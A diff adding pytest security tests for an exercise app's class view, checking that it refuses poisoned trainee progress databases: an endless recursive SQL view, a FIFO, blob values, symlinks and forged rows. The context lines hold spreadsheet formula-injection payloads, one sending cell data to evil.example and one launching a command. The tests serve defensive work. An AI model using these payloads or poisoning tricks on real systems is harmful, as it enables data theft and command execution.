@@ -3,9 +3,16 @@ that cannot be turned against itself", items 6, 7 and 15).  Each test is named a
 the code before its fix (c8663e6)."""
 import csv
 import io
+import json
+import os
+import sqlite3
+import subprocess
+import sys
+
+import pytest
 
 from exercises.classview import class_rows, rows_csv
-from exercises.progress import Attempt
+from exercises.progress import Attempt, ProgressStore, ProgressStoreError, read_attempts
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
             "\tleading tab", "\rleading CR")
@@ -30,3 +37,111 @@ def test_csv_export_leaves_numbers_and_plain_text_as_they_are():
     a = Attempt("1" * 32, "ana", "dilution", 3, "diluent", "glucose", False, "glucose", "check", "2026-12-02T10:00:00")
     rows = list(csv.reader(io.StringIO(rows_csv(class_rows({"ana": [a]})))))
     assert rows[1][:7] == ["ana", "dilution", "1", "0", "0", "2026-12-02T10:00:00", "glucose ×1"]
+
+
+# -- item 6: the class view poisoned by a trainee's own progress file -----------------------------------------
+_VIEW_SCRIPT = r"""
+import json, sys
+import widgets.class_view as cv
+cv.hub_class = lambda *a, **k: [(n, "") for n in sys.argv[1].split(",")]
+app = cv.build_app(course_root=sys.argv[2])
+print(json.dumps({"rows": [[r.trainee, r.exercise, r.attempts, r.slips] for r in app.rows],
+                  "refused": app.refused, "csv": cv.rows_csv(app.rows)}))
+"""
+
+
+def _class_view(root, trainees, tmp_path, timeout=60):
+    """The class view over ``root/<trainee>/itb/progress.sqlite``, built in a subprocess (a poisoned file that
+    hangs the reader fails the test at the timeout instead of hanging the test run)."""
+    env = dict(os.environ, ITB_CLASS_PROGRESS_ROOT=str(root), ITB_COURSE="itb", PYTHONPATH=os.getcwd())
+    env.pop("JUPYTERHUB_API_TOKEN", None)
+    try:
+        out = subprocess.run([sys.executable, "-c", _VIEW_SCRIPT, ",".join(trainees), str(tmp_path / "course")],
+                             capture_output=True, text=True, timeout=timeout, env=env, cwd=os.getcwd())
+    except subprocess.TimeoutExpired:
+        pytest.fail(f"the class view did not finish within {timeout} s")
+    assert out.returncode == 0, out.stderr[-2000:]
+    return json.loads(out.stdout.strip().splitlines()[-1])
+
+
+def _trainee_file(root, name, n=1):
+    store = ProgressStore(root / name / "itb" / "progress.sqlite")
+    for i in range(n):
+        store.add(name, "dilution", i, "diluent", "glucose", False, "glucose")
+    return store.path
+
+
+def _shown(view, trainee):
+    return [r for r in view["rows"] if r[0] == trainee]
+
+
+def test_class_view_poisoned_by_a_view_named_attempts_that_never_ends(tmp_path):
+    root = tmp_path / "root"
+    _trainee_file(root, "t2")
+    bad = _trainee_file(root, "t1")
+    conn = sqlite3.connect(bad)
+    conn.executescript("DROP TABLE attempts; CREATE VIEW attempts AS WITH RECURSIVE r(id) AS "
+                       "(SELECT 1 UNION ALL SELECT id + 1 FROM r) SELECT hex(id) AS uid, 't1' AS trainee, "
+                       "'x' AS exercise, 1 AS seed, 'p' AS part, 'a' AS answer, 0 AS correct, NULL AS slip, "
+                       "'check' AS kind, '2026-01-01' AS created_at, NULL AS override_reason, id FROM r;")
+    conn.close()
+    view = _class_view(root, ["t1", "t2"], tmp_path)
+    assert _shown(view, "t2") and not _shown(view, "t1")
+    assert any(r.startswith("t1:") and str(bad) in r and "view" in r for r in view["refused"])
+
+
+def test_class_view_poisoned_by_a_fifo_at_the_database_path(tmp_path):
+    root = tmp_path / "root"
+    _trainee_file(root, "t2")
+    fifo = root / "t1" / "itb" / "progress.sqlite"
+    fifo.parent.mkdir(parents=True)
+    os.mkfifo(fifo)
+    view = _class_view(root, ["t1", "t2"], tmp_path)
+    assert _shown(view, "t2") and not _shown(view, "t1")
+    assert any(r.startswith("t1:") and "not a regular file" in r for r in view["refused"])
+
+
+def test_class_view_poisoned_by_a_blob_value_in_the_progress_file(tmp_path):
+    root = tmp_path / "root"
+    _trainee_file(root, "t2")
+    bad = _trainee_file(root, "t1")
+    conn = sqlite3.connect(bad)
+    conn.execute("UPDATE attempts SET slip = X'3d484950455201ff', answer = X'00'")
+    conn.commit()
+    conn.close()
+    view = _class_view(root, ["t1", "t2"], tmp_path)
+    assert _shown(view, "t2") and not _shown(view, "t1")
+    assert any(r.startswith("t1:") and "types" in r for r in view["refused"])
+
+
+def test_class_view_shows_a_symlink_to_another_trainees_file_as_the_first_trainees(tmp_path):
+    root = tmp_path / "root"
+    other = _trainee_file(root, "t2", n=3)
+    (root / "t1" / "itb").mkdir(parents=True)
+    (root / "t1" / "itb" / "progress.sqlite").symlink_to(other)  # the file itself a link
+    (root / "t3").mkdir()
+    (root / "t3" / "itb").symlink_to(other.parent)  # a folder on the way a link
+    view = _class_view(root, ["t1", "t2", "t3"], tmp_path)
+    assert len(_shown(view, "t2")) == 1 and _shown(view, "t2")[0][2] == 3
+    assert not _shown(view, "t1") and not _shown(view, "t3")
+    assert any(r.startswith("t1:") and "symbolic link" in r for r in view["refused"])
+    assert any(r.startswith("t3:") and "symbolic link" in r for r in view["refused"])
+
+
+def test_class_view_refuses_another_trainees_rows_in_a_trainees_file(tmp_path):
+    root = tmp_path / "root"
+    _trainee_file(root, "t2")
+    bad = _trainee_file(root, "t1")
+    ProgressStore(bad).add("t2", "dilution", 9, "diluent", "glucose", False, "forged")  # t1 writes as t2
+    view = _class_view(root, ["t1", "t2"], tmp_path)
+    assert not _shown(view, "t1") and "forged" not in view["csv"]
+    assert any(r.startswith("t1:") and "another trainee's" in r for r in view["refused"])
+
+
+def test_read_attempts_refuses_a_file_not_owned_by_its_trainee_and_bounds_query_time(tmp_path):
+    path = _trainee_file(tmp_path, "t1", n=3000)
+    assert len(read_attempts(path, trainee="t1", owner=os.getuid())) == 3000
+    with pytest.raises(ProgressStoreError, match="belongs to user id"):
+        read_attempts(path, owner=os.getuid() + 1)
+    with pytest.raises(ProgressStoreError, match="took longer than"):
+        read_attempts(path, timeout=0.0)  # the progress handler interrupts the query past its deadline
